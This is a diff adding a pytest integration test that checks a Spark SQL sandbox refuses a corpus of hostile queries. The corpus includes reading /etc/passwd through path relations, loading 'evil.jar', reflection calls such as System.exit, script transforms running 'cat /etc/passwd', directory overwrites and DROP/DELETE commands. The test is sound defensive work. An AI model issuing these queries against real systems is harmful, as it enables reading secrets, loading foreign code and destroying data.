@@ -1,0 +1,220 @@
+"""The SQL sandbox against a corpus of hostile queries (real Spark, one warm session).
+
+Every query goes through the engine exactly as a derivative's transform would, and must come
+back as ``InvalidQuery`` with a reason. Afterwards nothing may have touched the file system
+(canary directory unchanged, no INSERT … DIRECTORY target), the protective settings must be
+intact and no JAR, file or function may have been registered.
+"""
+
+from __future__ import annotations
+
+import socket
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[2]
+if str(ROOT) not in sys.path:  # `engine` is a top-level package next to `coordinator`
+    sys.path.insert(0, str(ROOT))
+
+from coordinator.transform.model import TransformInvalidQuery, TransformSuccess  # noqa: E402
+from coordinator.transform.plan import OutputPaths, clear_outputs, plan_transform  # noqa: E402
+from coordinator.transform.testing import (  # noqa: E402
+    Clock,
+    inputs_of,
+    make_derivative,
+    make_root,
+    push_csv,
+)
+
+pytestmark = pytest.mark.integration
+
+CANARY = "/tmp/odf-sandbox-canary"
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+NET = f"127.0.0.1:{_free_port()}"  # a listener the test owns: no query may connect to it
+
+HOSTILE: list[tuple[str, str]] = [
+    # path-based relations
+    (f"SELECT * FROM parquet.`{CANARY}/data.parquet`", "path-based"),
+    ("SELECT * FROM parquet.`/etc`", "not an input"),
+    ("SELECT * FROM text.`/etc/passwd`", "not an input"),
+    ("SELECT * FROM csv.`file:///etc/passwd`", "not an input"),
+    ("SELECT * FROM json.`/etc/hostname`", "not an input"),
+    ("SELECT * FROM `parquet`.`/etc`", "not an input"),
+    (f"WITH x AS (SELECT * FROM parquet.`{CANARY}`) SELECT * FROM x", "not an input"),
+    ("SELECT * FROM cities UNION ALL SELECT * FROM orc.`/tmp`", "not an input"),
+    ("SELECT * FROM cities WHERE city IN (SELECT value FROM text.`/etc/passwd`)", "not an input"),
+    # network
+    (f"SELECT * FROM json.`http://{NET}/x`", "not an input"),
+    (f"SELECT * FROM parquet.`hdfs://{NET}/x`", "not an input"),
+    (
+        f"CREATE TEMPORARY VIEW j USING jdbc OPTIONS (url 'jdbc:postgresql://{NET}/db', "
+        "dbtable 't')",
+        "only SELECT",
+    ),
+    (f"ADD JAR http://{NET}/evil.jar", "only SELECT"),
+    (f"SELECT java_method('java.net.URL', 'openStream', 'http://{NET}/')", "java_method"),
+    # IDENTIFIER() clauses bypass the parsed-plan checks; the analysed plan catches them
+    ("SELECT * FROM IDENTIFIER('parquet.`/etc`')", "does not analyse"),
+    ("SELECT * FROM IDENTIFIER('spark_catalog.default.x')", "does not analyse"),
+    (
+        "SELECT IDENTIFIER('java_method')('java.lang.System', 'getenv', 'HOME')",
+        "CallMethodViaReflection",
+    ),
+    ("SELECT transform(array(1), x -> reflect('java.lang.System', 'exit', 0))", "reflect"),
+    # catalogs / other relations
+    ("SELECT * FROM spark_catalog.default.secrets", "not an input"),
+    ("SELECT * FROM global_temp.other", "not an input"),
+    ("SELECT * FROM some_other_view", "not an input"),
+    ("SELECT * FROM range(10)", "not allowed"),
+    # reflection and friends
+    ("SELECT reflect('java.lang.System', 'getenv', 'HOME')", "reflect"),
+    ("SELECT java_method('java.lang.Runtime', 'getRuntime')", "java_method"),
+    ("SELECT try_reflect('java.lang.System', 'exit', 1)", "try_reflect"),
+    (
+        "SELECT * FROM cities WHERE EXISTS (SELECT REFLECT('java.util.UUID', 'randomUUID'))",
+        "reflect",
+    ),
+    ("SELECT city, input_file_name() AS f, event_time FROM cities", "input_file_name"),
+    ("SELECT TRANSFORM(city) USING 'cat /etc/passwd' AS (x) FROM cities", "ScriptTransformation"),
+    # commands
+    ("SET spark.sql.runSQLOnFiles=true", "only SELECT"),
+    ("RESET", "only SELECT"),
+    ("ADD JAR /tmp/evil.jar", "only SELECT"),
+    (f"ADD FILE {CANARY}/data.txt", "only SELECT"),
+    ("LIST FILES", "only SELECT"),
+    ("CREATE TEMPORARY FUNCTION evil AS 'com.evil.Udf' USING JAR '/tmp/evil.jar'", "only SELECT"),
+    ("CREATE FUNCTION evil AS 'com.evil.Udf'", "only SELECT"),
+    (f"CREATE TABLE t USING parquet LOCATION '{CANARY}'", "only SELECT"),
+    (f"CREATE TEMPORARY VIEW v USING parquet OPTIONS (path '{CANARY}')", "only SELECT"),
+    ("CREATE OR REPLACE TEMPORARY VIEW cities AS SELECT 1", "only SELECT"),
+    ("DROP VIEW cities", "only SELECT"),
+    ("DROP TABLE cities", "only SELECT"),
+    (
+        f"INSERT OVERWRITE DIRECTORY '{CANARY}/out' USING parquet SELECT * FROM cities",
+        "only SELECT",
+    ),
+    (f"INSERT OVERWRITE LOCAL DIRECTORY '{CANARY}/out2' SELECT * FROM cities", "only SELECT"),
+    ("INSERT INTO cities SELECT * FROM cities", "only SELECT"),
+    (f"LOAD DATA LOCAL INPATH '{CANARY}/data.txt' INTO TABLE cities", "only SELECT"),
+    ("DELETE FROM cities", "only SELECT"),
+    ("UPDATE cities SET city = 'x'", "only SELECT"),
+    ("TRUNCATE TABLE cities", "only SELECT"),
+    ("CACHE TABLE c2 AS SELECT * FROM cities", "only SELECT"),
+    ("CLEAR CACHE", "only SELECT"),
+    (f"REFRESH '{CANARY}'", "only SELECT"),
+    ("EXPLAIN SELECT * FROM cities", "only SELECT"),
+    ("SHOW TABLES", "only SELECT"),
+    ("DESCRIBE cities", "only SELECT"),
+    ("USE other_db", "only SELECT"),
+    ("CREATE DATABASE evil", "only SELECT"),
+    ("SELECT 1; SELECT 2", "cannot parse"),
+    ("SELECT * FROM cities; DROP VIEW cities", "cannot parse"),
+]
+
+
+@pytest.fixture(scope="module")
+def spark() -> Iterator[Any]:
+    from engine.spark_engine import create_spark_session
+
+    yield create_spark_session("local[2]")
+
+
+@pytest.fixture(scope="module")
+def setup(tmp_path_factory: pytest.TempPathFactory, spark: Any) -> Any:
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    canary = Path(CANARY)
+    canary.mkdir(parents=True, exist_ok=True)
+    pq.write_table(pa.table({"secret": ["s3cr3t"]}), canary / "data.parquet")
+    (canary / "data.txt").write_text("secret\n")
+    tmp = tmp_path_factory.mktemp("sandbox")
+    clock = Clock()
+    root = make_root(tmp, "root")
+    push_csv(
+        root,
+        tmp / "in",
+        "event_time,city,population\n2020-01-01T00:00:00Z,A,1000\n2020-01-02T00:00:00Z,B,20\n",
+        clock,
+    )
+    return tmp, root, clock
+
+
+def snapshot_dir(p: Path) -> dict[str, tuple[int, float]]:
+    return {str(f): (f.stat().st_size, f.stat().st_mtime) for f in sorted(p.rglob("*"))}
+
+
+def run(setup: Any, spark: Any, query: str) -> Any:
+    from engine.spark_engine import SparkEngine
+
+    tmp, root, clock = setup
+    name = f"d{clock().epoch_ns}"
+    der = make_derivative(tmp, name, [(root, "cities")], [(None, query)])
+    paths = OutputPaths.under(tmp / name / "work")
+    plan = plan_transform(der, inputs_of(root), system_time=clock(), paths=paths)
+    assert plan is not None
+    clear_outputs(paths)
+    return SparkEngine(spark).execute_transform(plan.request)
+
+
+def test_corpus_is_large_enough() -> None:
+    assert len(HOSTILE) >= 30
+    assert len({q for q, _ in HOSTILE}) == len(HOSTILE)
+
+
+def test_hostile_queries_are_refused(setup: Any, spark: Any) -> None:
+    host, port = NET.split(":")
+    listener = socket.socket()
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind((host, int(port)))
+    listener.listen(8)
+    listener.settimeout(0.2)
+    before = snapshot_dir(Path(CANARY))
+    jars_before = spark.sparkContext._jsc.sc().listJars().size()
+    failures = []
+    for query, reason in HOSTILE:
+        resp = run(setup, spark, query)
+        if not isinstance(resp, TransformInvalidQuery):
+            failures.append(f"{query!r}: {resp}")
+        elif reason.lower() not in resp.message.lower():
+            failures.append(f"{query!r}: reason {resp.message!r} lacks {reason!r}")
+    assert not failures, "\n".join(failures)
+    # Nobody connected to the network canary.
+    with pytest.raises(TimeoutError):
+        listener.accept()
+    listener.close()
+    # Nothing touched the file system or the session's protections.
+    assert snapshot_dir(Path(CANARY)) == before
+    assert not Path(CANARY, "out").exists() and not Path(CANARY, "out2").exists()
+    assert spark.conf.get("spark.sql.runSQLOnFiles") == "false"
+    assert spark.sparkContext._jsc.sc().listJars().size() == jars_before
+    assert spark.sparkContext._jsc.sc().listFiles().size() == 0
+    assert not [f for f in spark.catalog.listFunctions() if not f.isTemporary and "evil" in f.name]
+    assert [t.name for t in spark.catalog.listTables()] == []
+    assert [d.name for d in spark.catalog.listDatabases()] == ["default"]
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "SELECT op, event_time, city, population FROM cities",
+        "SELECT op, event_time, upper(city) AS c FROM cities WHERE population > 10",
+        "WITH x AS (SELECT * FROM cities) SELECT event_time, city FROM x WHERE city = 'A'",
+        "SELECT event_time, city FROM cities"
+        " WHERE city IN (SELECT city FROM cities WHERE population > 100)",
+        "SELECT event_time, city, CAST(population AS DOUBLE) / 3 AS p FROM `cities`",
+    ],
+)
+def test_legitimate_queries_run(setup: Any, spark: Any, query: str) -> None:
+    assert isinstance(run(setup, spark, query), TransformSuccess)
